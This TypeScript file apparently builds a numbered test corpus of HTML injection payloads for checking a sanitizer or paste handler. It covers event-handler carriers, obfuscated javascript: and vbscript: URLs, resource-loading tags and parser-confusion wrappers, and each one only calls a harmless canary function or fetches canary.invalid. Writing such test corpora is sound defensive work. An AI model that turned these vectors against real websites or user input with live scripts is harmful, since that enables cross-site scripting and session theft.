// Pages that try to run something or to fetch something when they are taken in. Each calls `canary(n)` or asks for
// "canary.invalid/n" with its own number, so that a hit can be traced to what made it.

const host = "http://canary.invalid";

const handlers = [
  "onload",
  "onerror",
  "onclick",
  "onfocus",
  "ontoggle",
  "onmouseover",
  "onanimationstart",
  "onbegin",
  "onpointerenter",
  "onresize",
];

const carriers: readonly ((handler: string) => string)[] = [
  (handler) => `<img src="data:," ${handler}>`,
  (handler) => `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= ${handler}>`,
  (handler) => `<svg ${handler}><animate attributeName=x dur=1s ${handler}></svg>`,
  (handler) => `<body ${handler}>`,
  (handler) => `<details open ${handler}><summary>x</summary></details>`,
  (handler) => `<input autofocus ${handler}>`,
  (handler) => `<iframe src="about:blank" ${handler}></iframe>`,
  (handler) => `<video ${handler}><source src="data:," ${handler}></video>`,
  (handler) => `<p style="animation: spin 1s" ${handler}>x</p>`,
];

const addresses = [
  "javascript:canary(N)",
  "JaVaScRiPt:canary(N)",
  "java&#9;script:canary(N)",
  "&#106;avascript:canary(N)",
  " javascript:canary(N)",
  "data:text/html,<script>parent.canary(N)</script>",
  "vbscript:canary(N)",
];

const links: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_self>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<math href="${address}"><mi>x</mi></math>`,
  (address) => `<base href="${address}"><a href="#">x</a>`,
];

const loads = [
  "<img src=URL>",
  '<img srcset="URL 1x">',
  "<picture><source srcset=URL><img src=URL></picture>",
  "<link rel=stylesheet href=URL>",
  "<link rel=prefetch href=URL>",
  "<link rel=preload as=image href=URL>",
  "<style>@import 'URL';</style>",
  "<style>p { background: url(URL) }</style><p>x</p>",
  '<p style="background: url(URL)">x</p>',
  '<p style="list-style: url(URL)">x</p>',
  '<table background="URL"><tr><td>x</td></tr></table>',
  "<video poster=URL></video>",
  "<audio src=URL autoplay></audio>",
  "<video><track src=URL default></video>",
  "<object data=URL></object>",
  "<embed src=URL>",
  "<iframe src=URL></iframe>",
  "<script src=URL></script>",
  "<input type=image src=URL>",
  "<svg><image href=URL /></svg>",
  '<svg><use href="URL#x" /></svg>',
  '<svg><style>@import "URL";</style></svg>',
  '<meta http-equiv=refresh content="0;url=URL">',
  "<v:imagedata src=URL>",
  "<!--[if gte mso 9]><img src=URL><![endif]--><img src=URL>",
];

const wrappers = [
  "%s",
  '<noscript><p title="</noscript>%s">',
  "<svg><style><![CDATA[</style>%s]]></svg>",
  "<math><mtext><table><mglyph><style><!--</style>%s",
  "<template>%s</template>%s",
  '<xmp><p title="</xmp>%s">',
  "<textarea></textarea>%s",
  '<title><p title="</title>%s">',
  "<!--><p>%s-->",
  "<!--x--!>%s",
  "<svg><![CDATA[><p>%s]]></svg>",
  "<select><option></select>%s",
  "<svg><foreignObject>%s</foreignObject></svg>",
  "<noembed></noembed>%s",
  "<listing>%s</listing>",
  "<table><td>%s",
  "<form><form>%s</form></form>",
  "<a><a>%s",
  "<p style='mso-list:Ignore'>%s</p>",
  '<span style="mso-element:footnote" id=ftn1>%s</span>',
  "<b style='font-weight:normal' id='docs-internal-guid-x'>%s</b>",
  "<div hidden>%s</div>",
  "\u0000<p>%s",
  "<//p>%s",
  "<p dir=rtl>%s</p>",
  "<blockquote><ol><li>%s</ol></blockquote>",
];

const cores = [
  "<img src=data:, onerror=canary(N)>",
  "<svg onload=canary(N)></svg>",
  '<iframe srcdoc="<script>parent.canary(N)</script>"></iframe>',
  "<script>canary(N)</script>",
  "<img src=URL>",
];

/** Every payload in a page of its own, numbered from 0. */
export function makeScriptPayloads(): readonly string[] {
  const payloads = [
    ...handlers.flatMap((handler) => carriers.map((carry) => carry(`${handler}=canary(N)`))),
    ...addresses.flatMap((address) => links.map((link) => link(address))),
    ...loads,
    ...wrappers.flatMap((wrapper) => cores.map((core) => wrapper.replaceAll("%s", () => core))),
  ];
  return payloads.map((payload, n) =>
    payload.replaceAll("canary(N)", `canary(${n})`).replaceAll("URL", `${host}/${n}`),
  );
}
